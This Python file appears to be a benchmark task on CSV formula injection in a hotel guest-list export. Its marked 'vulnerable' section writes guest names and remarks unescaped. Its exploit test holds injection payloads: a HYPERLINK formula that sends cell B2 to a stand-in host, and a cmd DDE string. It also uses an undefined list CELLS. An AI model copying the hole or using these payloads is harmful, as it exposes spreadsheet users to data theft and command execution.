# unseen: program
import csv
import io
import re


class Sheet:
    """What a spreadsheet does with a CSV file: cells that begin with = + - @ and are no number are formulas.

    A formula may open addresses with the values of other cells in it, and start programs.
    """

    def __init__(self, text):
        self.formulas = []
        self.cells = [[self.value(cell) for cell in row] for row in csv.reader(io.StringIO(text, newline=""))]

    def value(self, cell):
        content = cell.lstrip("\t\r\n ")
        if re.fullmatch(r"[-+]?\d+(\.\d+)?", content):
            return float(content)
        if content[:1] not in ("=", "+", "-", "@") or not content:
            return cell
        self.formulas.append(content)
        return f"#{content}"


# unseen: function
def guest_list(guests):
    """The guests as CSV with a heading: room, name, remark and balance.

    Args:
      guests: pairs of room and a mapping with `name`, `remark` and `balance`, a number that may be negative.

    A guest's name and remark are shown in the spreadsheet as they were typed; an apostrophe in front of a
    cell, which spreadsheets hide, does not matter.
    """
    text = io.StringIO(newline="")
    writer = csv.writer(text)
    writer.writerow(["room", "name", "remark", "balance"])
    for room, guest in sorted(guests, key=lambda pair: pair[0]):
        # unseen: vulnerable
        cells = [guest["name"], guest["remark"]]
        # unseen: end vulnerable
        writer.writerow([room, *cells, guest["balance"]])
    return text.getvalue()


# unseen: support
import os
import sys


def opened(*guests):
    """The sheet for guests of name, remark and balance, in the rooms from 101 on."""
    rows = [
        (101 + number, {"name": name, "remark": remark, "balance": balance})
        for number, (name, remark, balance) in enumerate(guests)
    ]
    return Sheet(guest_list(rows[::-1]))


def as_read(value):
    return value.removeprefix("'").strip() if isinstance(value, str) else value


def judged(check):
    """Exit with status 0 only if the check came to its end; leaving early is no success."""
    reader, writer = os.pipe()
    child = os.fork()
    if child == 0:
        check()
        os.write(writer, b"end")
        os._exit(0)
    os.close(writer)
    status = os.waitpid(child, 0)[1]
    sys.exit(0 if status == 0 and os.read(reader, 3) == b"end" else 1)


# unseen: functional
def check():
    assert opened().cells == [["room", "name", "remark", "balance"]]
    sheet = opened(
        ("Ines Calvo", "late, about 22:00", 80),
        ("O'Neill, Pat", 'says "hello"', -12.5),
        ("Åse Ødegård", "", 0),
        ("Bo-Ann", "two beds\nquiet", 3),
        ("a=b+c@d.example -1-", "see =SUM(A1); 'x' \t-2 and @home", -1),
    )
    assert as_read(sheet.cells[5][1]) == "a=b+c@d.example -1-"
    assert as_read(sheet.cells[5][2]) == "see =SUM(A1); 'x' \t-2 and @home"
    names = [as_read(row[1]) for row in sheet.cells[1:]]
    assert names == ["Ines Calvo", "O'Neill, Pat", "Åse Ødegård", "Bo-Ann", "a=b+c@d.example -1-"]
    assert [row[3] for row in sheet.cells[1:]] == [80, -12.5, 0, 3, -1]
    assert [row[0] for row in sheet.cells[1:]] == [101, 102, 103, 104, 105]
    assert as_read(sheet.cells[1][2]) == "late, about 22:00"
    assert as_read(sheet.cells[2][2]) == 'says "hello"'
    assert as_read(sheet.cells[3][2]) == ""
    assert as_read(sheet.cells[4][2]) == "two beds\nquiet"
    assert [len(row) for row in sheet.cells] == [4] * 6
    # Blanks, line ends and apostrophes of the guest's own are shown too; only an apostrophe in front may be added.
    for text in ("first line\r\nsecond", "line\n\nline", "quiet  ", "  two beds", "a\tb", "'s avonds", "''twice''", "what=", "x\r\n=y"):
        for guest in ((text, "", 1), ("Ines Calvo", text, 1)):
            cell = opened(guest).cells[1][1 if guest[0] == text else 2]
            assert cell in (text, f"'{text}"), f"{text!r} is shown as {cell!r}"
    # Rooms are in the order of their numbers, guests of one room as they came; other fields are not exported.
    people = [
        (number, {"balance": balance, "telephone": "=1", "remark": "-1 bed", "name": name})
        for number, name, balance in ((1000, "Zoe", 1234.56), (99, "Ulf", 40.25), (101, "Una", -0.5), (99, "Ada", 7))
    ]
    for _ in range(2):
        cells = Sheet(guest_list(people)).cells
        assert [[row[0], as_read(row[1]), row[3]] for row in cells[1:]] == [
            [99, "Ulf", 40.25],
            [99, "Ada", 7],
            [101, "Una", -0.5],
            [1000, "Zoe", 1234.56],
        ]
        assert people[0][1] == {"balance": 1234.56, "telephone": "=1", "remark": "-1 bed", "name": "Zoe"}
    assert [number for number, _ in people] == [1000, 99, 101, 99]
    first = guest_list(people)
    assert guest_list(people) == first and guest_list(iter(people)) == first


judged(check)


# unseen: exploit
def check():
    link = 'HYPERLINK("http://harbour.example/?x="&B2,"open")'
    for start in ("=", "+", "-", "@", " =", "\t=", "\r=", "\n=", "\t@", "  +1+", "=1+", "-2+3+", "\r\n="):
        for text in (start + link, start + link.lower(), start + "cmd|' /C calc'!A0" + link):
            for guest in ((text, "quiet", 5), ("Ines Calvo", text, 5)):
                sheet = opened(("Bo", "", 1), guest)
                assert not sheet.formulas, f"the spreadsheet runs {sheet.formulas} for {text!r}"
    for text in CELLS:
        for guest in ((text, "quiet", 5), ("Ines Calvo", text, 5)):
            sheet = opened(("Bo", "", 1), guest)
            assert not sheet.formulas, f"the spreadsheet runs {sheet.formulas} for {text!r}"
    for text in ("-", "=", "+", "@", " -", "--", "=1", "=1+1", "@1", "-1.", "+1,5", "-inf", "+1_000", "-1 -2", "=\u00e9"):
        for guest in ((text, "quiet", 5), ("Ines Calvo", text, 5)):
            sheet = opened(guest)
            assert not sheet.formulas, f"the spreadsheet runs {sheet.formulas} for {text!r}"
    for text in ("- no breakfast", "@reception please call", "=) lovely", "+49 170 call", "-- late --", " - two beds"):
        for guest in ((text, "quiet", 5), ("Ines Calvo", text, 5)):
            sheet = opened(guest)
            cell = sheet.cells[1][1 if guest[0] == text else 2]
            assert not sheet.formulas, f"the spreadsheet runs {sheet.formulas} for {text!r}"
            assert cell.replace("'", "", 1).strip() == text.strip(), f"{text!r} is shown as {cell!r}"
    sheet = opened(("Bo", "quiet", -3.5))
    assert [as_read(cell) for cell in sheet.cells[1]] == [101, "Bo", "quiet", -3.5]


judged(check)
